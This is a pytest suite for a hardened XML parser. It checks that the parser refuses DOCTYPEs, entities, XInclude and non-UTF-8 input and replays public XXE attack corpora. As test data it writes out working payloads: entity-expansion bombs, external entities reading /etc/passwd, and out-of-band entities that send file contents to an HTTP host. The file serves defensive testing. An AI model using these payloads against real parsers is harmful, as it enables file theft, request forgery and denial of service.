"""`parse_document`, the one hardened parser (PROTOCOL §3, SECURITY 1–9).

Every forbidden construct is refused with `ForbiddenXml`, everything that is not
well-formed UTF-8 with `MalformedXml`; nothing else ever escapes. No file or
socket is opened: `_RefuseEverything` counts resolver calls and a listening
socket of the test counts connections. Expansion bombs are refused without
memory growth. The attack corpora beside the repository are replayed whole.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import textwrap
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from protocol.errors import ForbiddenXml, MalformedXml, UamsError
from protocol.replies import rejection
from protocol.schemas import SchemaSet
from protocol.xml import _RefuseEverything, parse_document
from tests.builders import declaration
from tests.conftest import ROOT, SHARED_DATA

OK_DECL = b'<?xml version="1.0" encoding="UTF-8"?>'


@pytest.fixture
def no_resolver_calls() -> Iterator[None]:
    """Fails the test if the parser's resolver was asked for anything."""
    before = _RefuseEverything.calls
    yield
    assert _RefuseEverything.calls == before, "the parser tried to load an external resource"


@pytest.fixture
def trap_port() -> Iterator[socket.socket]:
    """A listening socket on 127.0.0.1: any parser that fetched a URL would connect here."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    yield listener
    try:
        conn, _ = listener.accept()
    except BlockingIOError:
        pass
    else:
        conn.close()
        pytest.fail("the parser opened a network connection")
    finally:
        listener.close()


def outcome(payload: bytes) -> str:
    try:
        parse_document(payload)
    except ForbiddenXml:
        return "FORBIDDEN_XML"
    except MalformedXml:
        return "MALFORMED_XML"
    return "PARSED"


def assert_reply_reveals_nothing(error: UamsError, *secrets: str) -> None:
    wire = rejection(error, recipient_id="BRK-0001")
    for secret in secrets:
        assert secret.encode() not in wire
    assert b"Traceback" not in wire


# -- DOCTYPE, entities ------------------------------------------------------------------------

FORBIDDEN = {
    "harmless doctype": b"<!DOCTYPE a><a/>",
    "doctype after declaration": OK_DECL + b"<!DOCTYPE a><a/>",
    "empty internal subset": b"<!DOCTYPE a []><a/>",
    "element declaration only": b"<!DOCTYPE a [<!ELEMENT a (#PCDATA)>]><a>x</a>",
    "attribute default": b'<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>',
    "internal entity declared and referenced": b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>',
    "internal entity declared, not referenced": b'<!DOCTYPE a [<!ENTITY e "x">]><a/>',
    "internal entity in attribute": b'<!DOCTYPE a [<!ENTITY e "x">]><a b="&e;"/>',
    "undeclared entity in content": b"<a>&nbsp;</a>",
    "undeclared entity in attribute": b'<a b="&foo;"/>',
    "undeclared entity in envelope": declaration().replace(b"Goods 1", b"Goods &x;"),
    "entity named like predefined": b"<a>&Amp;</a>",
    "xinclude element": (b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
                         b'<xi:include href="file:///etc/passwd" parse="text"/></a>'),
    "xinclude 2003 namespace": (b'<a xmlns:xi="http://www.w3.org/2003/XInclude">'
                                b'<xi:include href="x.xml"/></a>'),
    "xinclude as root": b'<include xmlns="http://www.w3.org/2001/XInclude" href="x"/>',
    "xinclude fallback only": (b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
                               b"<xi:fallback>x</xi:fallback></a>"),
    "pi inside root": b"<a><?php echo 1; ?></a>",
    "pi before root": b"<?xml-stylesheet href='x.xsl'?><a/>",
    "pi after declaration before root": OK_DECL + b"<?foo?><a/>",
    "pi after root": b"<a/><?foo bar?>",
    "pi deep inside": declaration().replace(b"<GoodsItem>", b"<GoodsItem><?x y?>"),
    "pi named like the declaration": b"<a><?xml-model href='x'?></a>",
}


@pytest.mark.parametrize("payload", FORBIDDEN.values(), ids=FORBIDDEN.keys())
def test_forbidden_constructs(payload: bytes, no_resolver_calls: None) -> None:
    with pytest.raises(ForbiddenXml) as raised:
        parse_document(payload)
    assert raised.value.code.value == "FORBIDDEN_XML"
    assert raised.value.details == ()


ALLOWED = {
    "xml declaration": OK_DECL + b"<a/>",
    "declaration with single quotes and standalone":
        b"<?xml version='1.0' encoding='utf-8' standalone='yes'?><a/>",
    "predefined entities": b'<a b="&lt;&gt;&amp;&quot;&apos;">&lt;&gt;&amp;&quot;&apos;</a>',
    "character references": b'<a b="&#65;&#x42;">&#67;&#x44;&#x1F600;</a>',
    "utf-8 byte-order mark": b"\xef\xbb\xbf" + OK_DECL + b"<a/>",
    "comments around root": b"<!-- before --><a><!-- inside --></a><!-- after -->",
    "cdata that looks dangerous": b"<a><![CDATA[<!DOCTYPE x [<!ENTITY e 'x'>]> &e; <?pi?>]]></a>",
    "non-ascii text": "<a>Bakı — 中国 — ☃</a>".encode(),
    "envelope": declaration(),
    "nesting depth 256": b"<a>" * 256 + b"</a>" * 256,
}


@pytest.mark.parametrize("payload", ALLOWED.values(), ids=ALLOWED.keys())
def test_allowed_constructs(payload: bytes, no_resolver_calls: None) -> None:
    root = parse_document(payload)
    assert isinstance(root, etree._Element)


def test_predefined_entities_and_character_references_are_decoded() -> None:
    root = parse_document(b'<a b="&quot;&#65;">&lt;&gt;&amp;&apos;&#x42;&#67;</a>')
    assert root.text == "<>&'BC"
    assert root.get("b") == '"A'


def test_doctype_comes_before_encoding_and_content_problems() -> None:
    """A DOCTYPE is refused before anything else is looked at (PROTOCOL §3)."""
    latin1_with_doctype = (b'<?xml version="1.0" encoding="ISO-8859-1"?>'
                           b"<!DOCTYPE a><a>\xe9</a>")
    assert outcome(latin1_with_doctype) == "FORBIDDEN_XML"
    assert outcome(b"<!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</b>") == "FORBIDDEN_XML"


# -- encodings -----------------------------------------------------------------------------------

NOT_UTF8 = {
    "latin-1 declared": '<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>'.encode("latin-1"),
    "latin-1 declared, ascii content": b'<?xml version="1.0" encoding="ISO-8859-1"?><a>x</a>',
    "windows-1252 declared": b'<?xml version="1.0" encoding="windows-1252"?><a>x</a>',
    "utf-16 declared with bom": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"),
    "utf-16 with bom, no declaration": "<a>é</a>".encode("utf-16"),
    "utf-16be with bom, no declaration": b"\xfe\xff" + "<a>é</a>".encode("utf-16-be"),
    "utf-16le without bom, declaration without encoding":
        '<?xml version="1.0"?><a/>'.encode("utf-16-le"),
    "utf-16be without bom": '<?xml version="1.0" encoding="UTF-16BE"?><a/>'.encode("utf-16-be"),
    "utf-32 with bom": "<a/>".encode("utf-32"),
    "ebcdic": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"),
    "invalid utf-8 byte": b"<a>\xff</a>",
    "truncated utf-8 sequence": b"<a>\xc3</a>",
    "overlong utf-8": b"<a>\xc0\xaf</a>",
    "utf-8 encoded surrogate": b"<a>\xed\xa0\x80</a>",
    "latin-1 bytes without declaration": "<a>é</a>".encode("latin-1"),
    "unknown encoding": b'<?xml version="1.0" encoding="x-no-such"?><a/>',
}


@pytest.mark.parametrize("payload", NOT_UTF8.values(), ids=NOT_UTF8.keys())
def test_not_utf8_is_malformed(payload: bytes, no_resolver_calls: None) -> None:
    with pytest.raises(MalformedXml):
        parse_document(payload)


MALFORMED = {
    "empty": b"",
    "whitespace": b"  \n",
    "text": b"hello",
    "unclosed": b"<a>",
    "mismatched": b"<a></b>",
    "two roots": b"<a/><b/>",
    "declaration not first": b" " + OK_DECL + b"<a/>",
    "undeclared prefix": b"<x:a/>",
    "nul byte": b"<a>\x00</a>",
    "nesting depth 257": b"<a>" * 257 + b"</a>" * 257,
    "nesting depth 100000": b"<a>" * 100_000 + b"</a>" * 100_000,
    "truncated envelope": declaration()[:-10],
}


@pytest.mark.parametrize("payload", MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed(payload: bytes, no_resolver_calls: None) -> None:
    with pytest.raises(MalformedXml) as raised:
        parse_document(payload)
    assert_reply_reveals_nothing(raised.value, "lxml", "libxml", "line 1, column")


def test_malformed_detail_gives_the_line_only() -> None:
    with pytest.raises(MalformedXml) as raised:
        parse_document(b"<a>\n<b>\n</a>")
    [detail] = raised.value.details
    assert detail.text == "The document is not well-formed."
    assert detail.line is not None and detail.line >= 2
    assert detail.path is None


def test_text_node_over_ten_megabytes_is_refused() -> None:
    with pytest.raises(MalformedXml):
        parse_document(b"<a>" + b"x" * (10 * 1024 * 1024 + 1024) + b"</a>")


# -- expansion bombs -----------------------------------------------------------------------------


def billion_laughs(levels: int = 10, in_attribute: bool = False) -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)]
    ref = f"&lol{levels - 1};"
    root = f'<lolz a="{ref}"/>' if in_attribute else f"<lolz>{ref}</lolz>"
    return f'<?xml version="1.0"?><!DOCTYPE lolz [{"".join(entities)}]>{root}'.encode()


def quadratic_blowup(entity_bytes: int, references: int) -> bytes:
    return (b'<!DOCTYPE q [<!ENTITY a "' + b"B" * entity_bytes + b'">]><q>'
            + b"&a;" * references + b"</q>")


def parameter_entity_bomb() -> bytes:
    return (b'<!DOCTYPE p [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;%a;%a;%a;%a;%a;">'
            b'<!ENTITY % c "%b;%b;%b;%b;%b;%b;%b;%b;"><!ENTITY % d "%c;%c;%c;%c;%c;%c;%c;%c;">'
            b"%d;]><p/>")


BOMBS = {
    "billion laughs": billion_laughs(),
    "billion laughs in attribute": billion_laughs(in_attribute=True),
    "quadratic blowup near the frame limit": quadratic_blowup(2 * 1024 * 1024, 600_000),
    "quadratic blowup, many small": quadratic_blowup(50_000, 70_000),
    "recursive entity": b'<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>',
    "parameter entity bomb": parameter_entity_bomb(),
}


@pytest.mark.parametrize("payload", BOMBS.values(), ids=BOMBS.keys())
def test_bombs_refused_fast_without_memory_growth(payload: bytes,
                                                  no_resolver_calls: None) -> None:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(ForbiddenXml):
            parse_document(payload)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 2.0, f"took {elapsed:.2f} s"
    assert peak < 16 * 1024 * 1024, f"Python heap peaked at {peak / 2**20:.1f} MiB"


def run_isolated(code: str, timeout: float = 60) -> str:
    """Run `code` in a fresh interpreter (the project importable); return its stdout."""
    result = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)], cwd=ROOT, capture_output=True,
        text=True, timeout=timeout, env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert result.returncode == 0, result.stderr[-2000:]
    return result.stdout


def test_bombs_do_not_grow_the_process() -> None:
    """libxml2 allocates outside the Python heap: watch the peak RSS of a fresh process."""
    out = run_isolated("""
        import resource
        from tests.test_xml_hardening import BOMBS
        from protocol.xml import parse_document
        from protocol.errors import ForbiddenXml
        parse_document(b"<warm-up/>")
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        for payload in BOMBS.values():
            for _ in range(3):
                try:
                    parse_document(payload)
                except ForbiddenXml:
                    pass
                else:
                    raise SystemExit("a bomb was accepted")
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print(after - before)
    """)
    grown_kib = int(out.strip())
    assert grown_kib < 64 * 1024, f"peak RSS grew by {grown_kib / 1024:.0f} MiB"


# -- external resources --------------------------------------------------------------------------


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("UAMS-SECRET-7d1f3c\n")
    return path


def external_payloads(file_uri: str, http_base: str) -> dict[str, bytes]:
    cases = {
        "external entity to /etc/passwd":
            '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
        "external entity to a local file":
            f'<!DOCTYPE d [<!ENTITY x SYSTEM "{file_uri}">]><d>&x;</d>',
        "external entity in attribute default":
            f'<!DOCTYPE d [<!ENTITY x SYSTEM "{file_uri}"><!ATTLIST d a CDATA "&x;">]><d/>',
        "external entity, public id":
            f'<!DOCTYPE d [<!ENTITY x PUBLIC "-//X//Y" "{file_uri}">]><d>&x;</d>',
        "external dtd": f'<!DOCTYPE d SYSTEM "{file_uri}"><d/>',
        "external dtd over http": f'<!DOCTYPE d SYSTEM "{http_base}/evil.dtd"><d/>',
        "external dtd, public id": f'<!DOCTYPE d PUBLIC "-//X//Y" "{http_base}/x.dtd"><d/>',
        "parameter entity to a local file":
            f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{file_uri}"> %p;]><d/>',
        "parameter entity over http, out of band":
            f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{http_base}/oob.dtd"> %p; %send;]><d>&exfil;</d>',
        "parameter entity defining a general entity":
            f'<!DOCTYPE d [<!ENTITY % f SYSTEM "{file_uri}">'
            f'<!ENTITY % w "<!ENTITY leak SYSTEM \'{http_base}/?%f;\'>"> %w;]><d>&leak;</d>',
        "external entity over http": f'<!DOCTYPE d [<!ENTITY x SYSTEM "{http_base}/x">]><d>&x;</d>',
        "unparsed entity": (f'<!DOCTYPE d [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "{file_uri}" '
                            f'NDATA n><!ATTLIST d a ENTITY #IMPLIED>]><d a="u"/>'),
        "xinclude of a local file":
            f'<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{file_uri}" '
            f'parse="text"/></d>',
        "xinclude over http":
            f'<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{http_base}/x"/></d>',
        "entity reference without DOCTYPE, named like a file": "<d>&passwd;</d>",
    }
    return {name: text.encode() for name, text in cases.items()}


EXTERNAL_CASES = list(external_payloads("file:///x", "http://h").keys())


@pytest.mark.parametrize("case", EXTERNAL_CASES)
def test_external_resources_never_loaded(case: str, secret_file: Path,
                                         trap_port: socket.socket,
                                         no_resolver_calls: None) -> None:
    port = trap_port.getsockname()[1]
    payload = external_payloads(secret_file.as_uri(), f"http://127.0.0.1:{port}")[case]
    with pytest.raises(ForbiddenXml) as raised:
        parse_document(payload)
    passwd_head = Path("/etc/passwd").read_text().splitlines()[0] if Path(
        "/etc/passwd").exists() else "root:x:0:0"
    assert_reply_reveals_nothing(raised.value, "UAMS-SECRET-7d1f3c", passwd_head,
                                 str(secret_file), "/etc/passwd")


def test_schema_location_hints_are_not_followed(trap_port: socket.socket,
                                                no_resolver_calls: None) -> None:
    """SECURITY 7: the document parses, validation uses our schemas only, nothing is fetched."""
    port = trap_port.getsockname()[1]
    hint = (f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation='
            f'"urn:uams:envelope:1 http://127.0.0.1:{port}/envelope.xsd"').encode()
    payload = declaration().replace(b'<Envelope xmlns="urn:uams:envelope:1"',
                                    b'<Envelope xmlns="urn:uams:envelope:1" ' + hint, 1)
    root = parse_document(payload)
    SchemaSet().validate(root)


def test_fifo_is_never_opened(tmp_path: Path) -> None:
    """SECURITY 2: a parser that opened external DTDs hung on a FIFO. Run it where a hang
    can be cut short."""
    fifo = tmp_path / "hang.fifo"
    os.mkfifo(fifo)
    uri = fifo.as_uri()
    out = run_isolated(f"""
        from protocol.xml import parse_document, _RefuseEverything
        from protocol.errors import ForbiddenXml
        payloads = [
            b'<!DOCTYPE d SYSTEM "{uri}"><d/>',
            b'<!DOCTYPE d [<!ENTITY % p SYSTEM "{uri}"> %p;]><d/>',
            b'<!DOCTYPE d [<!ENTITY x SYSTEM "{uri}">]><d>&x;</d>',
            b'<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{uri}"/></d>',
        ]
        for payload in payloads:
            try:
                parse_document(payload)
            except ForbiddenXml:
                continue
            raise SystemExit("accepted")
        print(_RefuseEverything.calls)
    """, timeout=30)
    assert out.strip() == "0"


# -- the attack corpora ----------------------------------------------------------------------------

CORPUS_DIRS = (
    "rub-nds-dtd-attacks/xml_files_unix",
    "rub-nds-dtd-attacks/xml_files_windows",
    "defusedxml-xmltestdata",
    "payloadsallthethings-xxe",
)
MISSING = f"{SHARED_DATA.name} beside the repository is missing: the attack corpora are not there"

#: Corpus files that are harmless, well-formed UTF-8 XML with no DOCTYPE, entity, PI or
#: XInclude: they parse. XSD and XSLT files are only dangerous when compiled or run, which
#: the gateway never does with a received document (SECURITY 6, 7); schemaLocation hints
#: are never followed.
HARMLESS_FILES = frozenset({
    # character references only
    "rub-nds-dtd-attacks/xml_files_unix/dtd/character/internalSubset_CharacterInContent.xml",
    "rub-nds-dtd-attacks/xml_files_unix/dtd/character/"
    "internalSubset_CharacterInContent_NoRecursion.xml",
    "rub-nds-dtd-attacks/xml_files_windows/dtd/character/internalSubset_CharacterInContent.xml",
    "rub-nds-dtd-attacks/xml_files_windows/dtd/character/"
    "internalSubset_CharacterInContent_NoRecursion.xml",
    # plain documents: the targets other payloads include
    "rub-nds-dtd-attacks/xml_files_unix/standard.xml",
    "rub-nds-dtd-attacks/xml_files_windows/standard.xml",
    "rub-nds-dtd-attacks/xml_files_windows/file.xml",
    "rub-nds-dtd-attacks/xml_files_unix/xinclude/xinclude_source.xml",
    "rub-nds-dtd-attacks/xml_files_unix/xinclude/android/xinclude_source.xml",
    "rub-nds-dtd-attacks/xml_files_windows/xinclude_source.xml",
    "rub-nds-dtd-attacks/xml_files_unix/xslt/xslt.xml",
    "rub-nds-dtd-attacks/xml_files_unix/xslt/android/xslt.xml",
    "rub-nds-dtd-attacks/xml_files_windows/optional/xslt.xml",
    "defusedxml-xmltestdata/simple.xml",
    # schemaLocation / noNamespaceSchemaLocation hints (never followed)
    "rub-nds-dtd-attacks/xml_files_unix/ssrf/url_invocation_noNamespaceSchemaLocation.xml",
    "rub-nds-dtd-attacks/xml_files_unix/ssrf/url_invocation_schemaLocation.xml",
    "rub-nds-dtd-attacks/xml_files_windows/ssrf/url_invocation_noNamespaceSchemaLocation.xml",
    "rub-nds-dtd-attacks/xml_files_windows/ssrf/url_invocation_schemaLocation.xml",
    # XML Schemas (never compiled from received documents)
    "rub-nds-dtd-attacks/xml_files_unix/ssrf/url_invocation_noNamespaceSchemaLocation.xsd",
    "rub-nds-dtd-attacks/xml_files_unix/ssrf/url_invocation_schemaLocation.xsd",
    "rub-nds-dtd-attacks/xml_files_unix/ssrf/url_invocation_schemaLocation_targetNamespace.xsd",
    "rub-nds-dtd-attacks/xml_files_unix/test/xxe.xsd",
    "rub-nds-dtd-attacks/xml_files_windows/ssrf/url_invocation_noNamespaceSchemaLocation.xsd",
    "rub-nds-dtd-attacks/xml_files_windows/ssrf/url_invocation_schemaLocation.xsd",
    "rub-nds-dtd-attacks/xml_files_windows/ssrf/url_invocation_schemaLocation_targetNamespace.xsd",
    "rub-nds-dtd-attacks/xml_files_windows/url_invocation_noNamespaceSchemaLocation.xsd",
    "defusedxml-xmltestdata/schema-include.xsd",
    # XSLT stylesheets (never run: SECURITY 6)
    "rub-nds-dtd-attacks/xml_files_unix/xslt/xslt.xsl",
    "rub-nds-dtd-attacks/xml_files_unix/xslt/android/xslt.xsl",
    "rub-nds-dtd-attacks/xml_files_windows/optional/xslt.xsl",
    "defusedxml-xmltestdata/xalan_exec.xsl",
    "defusedxml-xmltestdata/xalan_write.xsl",
})

#: Lines of the one-payload-per-line fuzz lists that are harmless XML (no DOCTYPE, entity,
#: PI or XInclude; script text or CDATA is just text to a parser): (file, line number).
HARMLESS_LINES = frozenset({
    ("XXE_Fuzzing.txt", 18), ("XXE_Fuzzing.txt", 24), ("XXE_Fuzzing.txt", 28),
    ("XXE_Fuzzing.txt", 30), ("XXE_Fuzzing.txt", 38), ("XXE_Fuzzing.txt", 39),
    ("XXE_Fuzzing.txt", 40),
    ("xml-attacks.txt", 5), ("xml-attacks.txt", 6), ("xml-attacks.txt", 7),
    ("xml-attacks.txt", 15), ("xml-attacks.txt", 16), ("xml-attacks.txt", 19),
})
INTRUDERS = "payloadsallthethings-xxe/Intruders"


def corpus_files() -> list[object]:
    if not SHARED_DATA.is_dir():
        return [pytest.param(None, marks=pytest.mark.skip(reason=MISSING), id="corpus-missing")]
    files = []
    for folder in CORPUS_DIRS:
        files += sorted(p for p in (SHARED_DATA / folder).rglob("*") if p.is_file())
    return [pytest.param(p, id=p.relative_to(SHARED_DATA).as_posix()) for p in files]


def intruder_lines() -> list[object]:
    if not SHARED_DATA.is_dir():
        return [pytest.param(None, 0, None, marks=pytest.mark.skip(reason=MISSING),
                             id="corpus-missing")]
    params = []
    for path in sorted((SHARED_DATA / INTRUDERS).glob("*.txt")):
        for number, line in enumerate(path.read_bytes().splitlines(), 1):
            if line.strip():
                params.append(pytest.param(path.name, number, line, id=f"{path.name}:{number}"))
    return params


def assert_harmless_tree(root: etree._Element, raw: bytes) -> None:
    tree = root.getroottree()
    assert tree.docinfo.doctype == ""
    assert not list(root.iter(etree.Entity, etree.ProcessingInstruction))
    for marker in (b"<!DOCTYPE", b"<!ENTITY", b"XInclude"):
        assert marker not in raw


def test_corpus_is_complete() -> None:
    if not SHARED_DATA.is_dir():
        pytest.skip(MISSING)
    for folder in CORPUS_DIRS:
        assert (SHARED_DATA / folder).is_dir(), folder
    names = {p.relative_to(SHARED_DATA).as_posix()
             for folder in CORPUS_DIRS for p in (SHARED_DATA / folder).rglob("*")}
    assert names >= HARMLESS_FILES, sorted(HARMLESS_FILES - names)
    assert len(names) >= 300


@pytest.mark.parametrize("path", corpus_files())
def test_attack_corpus_file(path: Path | None, secret_file: Path,
                            no_resolver_calls: None) -> None:
    assert path is not None
    name = path.relative_to(SHARED_DATA).as_posix()
    payload = path.read_bytes()
    started = time.perf_counter()
    try:
        root = parse_document(payload)
    except (ForbiddenXml, MalformedXml) as error:
        assert name not in HARMLESS_FILES, f"{name} is listed as harmless but was refused"
        assert_reply_reveals_nothing(error, "root:x:0:0", str(SHARED_DATA), "lxml")
    else:
        assert name in HARMLESS_FILES, f"{name} was accepted"
        assert_harmless_tree(root, payload)
    assert time.perf_counter() - started < 2.0


@pytest.mark.parametrize(("file", "number", "line"), intruder_lines())
def test_fuzz_list_line(file: str | None, number: int, line: bytes | None,
                        no_resolver_calls: None) -> None:
    assert file is not None and line is not None
    try:
        root = parse_document(line)
    except (ForbiddenXml, MalformedXml):
        assert (file, number) not in HARMLESS_LINES, f"{file}:{number} listed but refused"
    else:
        assert (file, number) in HARMLESS_LINES, f"{file}:{number} was accepted"
        assert_harmless_tree(root, line)


# -- properties ----------------------------------------------------------------------------------

SNIPPETS = [
    b"<!DOCTYPE a>", b'<!DOCTYPE a [<!ENTITY e "x">]>', b"&e;", b"&amp;", b"&#65;", b"&#x0;",
    b"<?pi x?>", b'<?xml version="1.0"?>', b"<![CDATA[", b"]]>", b"<!--", b"-->", b"<", b">",
    b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
    b"\x00", b"\xff", b"\xef\xbb\xbf", b"\xfe\xff", b'"', b"'", b"</Envelope>", b"<Body>",
    b'<!ENTITY % p SYSTEM "file:///etc/passwd">', b"%p;", b"\r\n", b"\xc3", b"xmlns:x='y'",
]


@st.composite
def mutated_envelopes(draw: st.DrawFn) -> bytes:
    data = bytearray(declaration(mid="prop-1", lrn="LRN-PROP"))
    for _ in range(draw(st.integers(1, 5))):
        at = draw(st.integers(0, len(data)))
        kind = draw(st.sampled_from(["insert", "delete", "flip", "random"]))
        if kind == "insert":
            data[at:at] = draw(st.sampled_from(SNIPPETS))
        elif kind == "delete":
            del data[at:at + draw(st.integers(1, 40))]
        elif kind == "flip" and at < len(data):
            data[at] = draw(st.integers(0, 255))
        else:
            data[at:at] = draw(st.binary(max_size=12))
    return bytes(data)


def assert_parses_or_refuses(payload: bytes) -> None:
    before = _RefuseEverything.calls
    try:
        root = parse_document(payload)
    except (ForbiddenXml, MalformedXml):
        pass
    else:
        assert isinstance(root, etree._Element)
        assert root.getroottree().docinfo.doctype == ""
        assert not list(root.iter(etree.Entity, etree.ProcessingInstruction))
    assert _RefuseEverything.calls == before


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=512))
def test_arbitrary_bytes_parse_or_are_refused(payload: bytes) -> None:
    assert_parses_or_refuses(payload)


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_envelopes())
def test_mutated_envelopes_parse_or_are_refused(payload: bytes) -> None:
    assert_parses_or_refuses(payload)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_arbitrary_text_as_utf8_parses_or_is_refused(text: str) -> None:
    assert_parses_or_refuses(f"<a>{text}</a>".encode("utf-8", "surrogatepass"))
